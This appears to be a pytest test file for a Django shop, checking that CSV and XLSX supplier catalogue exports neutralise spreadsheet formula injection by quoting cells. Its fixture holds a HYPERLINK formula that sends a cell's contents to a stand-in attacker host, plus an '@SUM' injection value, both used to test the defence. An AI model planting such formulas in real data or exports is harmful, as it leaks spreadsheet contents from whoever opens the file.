import csv
import io

import pytest
from openpyxl import load_workbook

from tests.factories import CertifiedPartnerFactory, certified_product

pytestmark = pytest.mark.django_db

CATALOGUE = "/shop/suppliers/catalogue/"
FORMULA = '=HYPERLINK("https://evil.example/?q="&A1,"点击查看")'


@pytest.fixture
def hostile_supplier():
    partner = CertifiedPartnerFactory(name=FORMULA)
    certified_product(partner=partner, title="@SUM(1+1)")
    return partner


def test_no_cell_of_the_catalogue_workbook_is_a_formula(client, hostile_supplier):
    response = client.get(CATALOGUE, {"format": "xlsx"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    values = [cell.value for cell in cells]
    assert "'" + FORMULA in values and "'@SUM(1+1)" in values


def test_a_supplier_name_starting_with_equals_is_quoted_in_the_catalogue_csv(client, hostile_supplier):
    response = client.get(CATALOGUE, {"format": "csv"})
    table = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    row = table[1]
    assert row[1] == "'@SUM(1+1)"
    assert row[2] == "'" + FORMULA
